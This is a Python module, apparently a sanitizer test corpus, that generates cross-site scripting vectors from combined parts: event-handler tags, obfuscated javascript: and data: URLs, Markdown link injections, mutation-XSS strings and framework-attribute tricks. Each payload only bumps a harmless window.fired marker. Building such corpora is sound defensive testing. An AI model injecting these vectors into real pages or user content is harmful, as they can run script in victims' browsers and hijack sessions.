"""Attacks on whoever reads what others wrote: put together from their parts, always the same.

Each would set `window.fired` where it runs. Parts: elements that load or act, the handlers they
have, addresses that are programs, ways of hiding them, what Markdown makes of brackets, and texts
that change their meaning when they are read a second time (mutation).
"""

from __future__ import annotations

from itertools import product

FIRE = "window.fired=(window.fired||0)+1"

_ACTING = {
    "img": ("src=x", ("onerror", "onload", "onclick", "onmouseover")),
    "svg": ("", ("onload", "onclick", "onfocus")),
    "body": ("", ("onload", "onpageshow", "onfocus", "onhashchange")),
    "input": ("autofocus", ("onfocus", "onblur", "oninput")),
    "video": ("src=x", ("onerror", "onloadstart", "oncanplay")),
    "audio": ("src=x", ("onerror", "onloadstart")),
    "details": ("open", ("ontoggle",)),
    "iframe": ("srcdoc=x", ("onload",)),
    "marquee": ("", ("onstart", "onfinish")),
    "object": ("data=x", ("onerror", "onload")),
    "embed": ("src=x", ("onload",)),
    "link": ("rel=stylesheet href=x", ("onerror", "onload")),
    "style": ("", ("onload",)),
    "div": ("style=animation-name:x", ("onanimationstart", "onpointerenter", "onwheel")),
    "select": ("autofocus", ("onfocus",)),
    "textarea": ("autofocus", ("onfocus",)),
    "button": ("autofocus", ("onfocus", "onclick")),
    "a": ("href=#x tabindex=1 id=x autofocus", ("onfocus", "onclick")),
    "p": ("contenteditable tabindex=1 autofocus", ("onfocus", "onbeforeinput")),
    "form": ("", ("onsubmit", "onformdata")),
    "image": ("src=x", ("onerror",)),
    "source": ("", ("onerror",)),
}
_WRITTEN = (
    "<{tag} {more} {on}={code}>",
    '<{tag} {more} {on}="{code}">',
    "<{tag}/{more}/{on}='{code}'/>",
    "<{upper} {more} {upper_on} = {code}>",
    '"><{tag} {more} {on}={code}>',
)
_SCHEMES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    "java\tscript:{code}",
    "java\nscript:{code}",
    "&#106;avascript:{code}",
    "&#x6A;&#x61;vascript:{code}",
    "javascript&colon;{code}",
    "java&Tab;script:{code}",
    "\x01javascript:{code}",
    " javascript:{code}",
    "javascript://x%0a{code}",
    "vbscript:{code}",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZmlyZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>",
    "blob:{code}",
    "view-source:javascript:{code}",
    "feed:javascript:{code}",
)
_LEADING = (
    "[x]({url})",
    "[x](<{url}>)",
    '[x]({url} "t")',
    "![x]({url})",
    "[![x]({url})]({url})",
    "<{url}>",
    "[x][y]\n\n[y]: {url}",
    "{url}",
    '<a href="{url}">x</a>',
    "<a xlink:href='{url}'>x</a>",
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>x</button></form>',
    '<svg><a xlink:href="{url}"><text>x</text></a></svg>',
    "<object data='{url}'></object>",
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<base href="{url}">',
)
_MARKDOWN = (
    '[x](http://a "x" {on}={code})',
    "[x](http://a'{on}='{code})",
    '![x" {on}="{code}](y)',
    '![x](y"{on}="{code})',
    "```<script>{code}</script>\n</code></pre><script>{code}</script>\n```",
    '``` x"{on}="{code}\na\n```',
    "`</code><img src=x {on}={code}>`",
    "#<img src=x {on}={code}>",
    '#tag"{on}="{code}',
    '@Anna"{on}="{code}',
    "[[12<img src=x {on}={code}>]]",
    '[[12" {on}="{code}]]',
    '<span class="record">[[1]]"><img src=x {on}={code}></span>',
    "| <img src=x {on}={code}> |\n|:-:|\n| `<b {on}={code}>` |",
    "> <img src=x {on}={code}>\n- <svg {on}={code}>",
    "<http://a.b/\"{on}='{code}'>",
    "http://a.b/\"{on}='{code}'",
    "http://a.b/<img src=x {on}={code}>",
    "a@b.pl\"{on}='{code}'",
    "<!--><img src=x {on}={code}>-->",
    "<![CDATA[><img src=x {on}={code}>]]>",
    "<?xml ><img src=x {on}={code}>?>",
    "\\<img src=x {on}={code}\\>",
    "&lt;img src=x {on}={code}&gt;",
    "&amp;lt;img src=x {on}={code}&amp;gt;",
    "<img\u2028src=x\u2029{on}={code}>",
    "<im\x00g src=x {on}={code}>",
    "\uff1cimg src=x {on}={code}\uff1e",
    "<img src=x {on}={code}//",
    "<img src=x {on}=\\u0066ired=1,{code}>",
)
_MUTATING = (
    "<noscript><p title='</noscript><img src=x onerror={code}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    "onerror={code}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={code}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={code}>",
    "<template><img src=x onerror={code}></template>",
    "<textarea></textarea><img src=x onerror={code}></textarea>",
    "<title><a title='</title><img src=x onerror={code}>'>",
    "<xmp><p title='</xmp><img src=x onerror={code}>'>",
    "<plaintext><img src=x onerror={code}>",
    "<select><template><img src=x onerror={code}></template></select>",
    "<table><td background='javascript:{code}'><img src=x onerror={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><script href=data:,{code} />",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{code}><a id=x><text>x</text></a>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{code}</script>'>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='x' onerror='{code}'/></svg>#x\">",
    "<math href=javascript:{code}>x</math>",
    "<script>{code}</script>",
    "<SCRIPT/x>{code}</SCRIPT>",
    "<script src=data:,{code}></script>",
    "<script type=module>{code}</script>",
    "<scr<script>ipt>{code}</scr</script>ipt>",
    "<<script>{code}//<</script>",
    "<iframe srcdoc='&lt;script&gt;parent.{code}&lt;/script&gt;'></iframe>",
    "<iframe src='javascript:parent.{code}'></iframe>",
    "<div hx-on:click='{code}' hx-on::load='{code}' hx-on-load='{code}'>x</div>",
    "<div data-hx-on:load='{code}' hx-trigger='load[{code}]' hx-get='/'>x</div>",
    "<div hx-vals='js:{{x:{code}}}' hx-get='/' hx-trigger='load'>x</div>",
    "<div hx-headers='js:{{x:{code}}}' hx-get='/' hx-trigger='load'>x</div>",
    "<div x-data x-init='{code}' x-on:click='{code}'>x</div>",
    "<input type=image src=x onerror={code}>",
    "<isindex type=image src=x onerror={code}>",
    "<style>@import 'javascript:{code}';</style>",
    "<style>*{{background:url(javascript:{code})}}</style>",
    "<p style=\"background:url('javascript:{code}');behavior:url(x)\">x</p>",
    "<x onclick={code} style=position:fixed;inset:0>x</x>",
    "{{{{ constructor.constructor('{code}')() }}}} ${{{code}}} {{% debug %}}",
    "'-{code}-'",
    '";{code}//',
    "</script><script>{code}</script>",
    "</title></textarea></style><img src=x onerror={code}>",
    "<div id=words data-copied='<img src=x onerror={code}>'></div>",
    "<template id=rich data-editor='data:text/javascript,{code}'></template>",
    "<a id=x name=location href=javascript:{code}>x</a>",
    "<form id=test><input></form><button form=test formaction='javascript:{code}'>x</button>",
)  # fmt: skip


def vectors() -> list[str]:
    """All of them, each once."""
    found: list[str] = []
    for (tag, (more, handlers)), written in product(_ACTING.items(), _WRITTEN):
        for on in handlers:
            values = {"tag": tag, "upper": tag.upper(), "on": on, "upper_on": on.upper()}
            found.append(written.format(more=more, code=FIRE, **values))
    for url, leading in product(_SCHEMES, _LEADING):
        found.append(leading.format(url=url.format(code=FIRE)))
    for text, on in product(_MARKDOWN, ("onerror", "onmouseover")):
        found.append(text.format(on=on, code=FIRE))
    found += [text.format(code=FIRE) for text in _MUTATING]
    return list(dict.fromkeys(found))
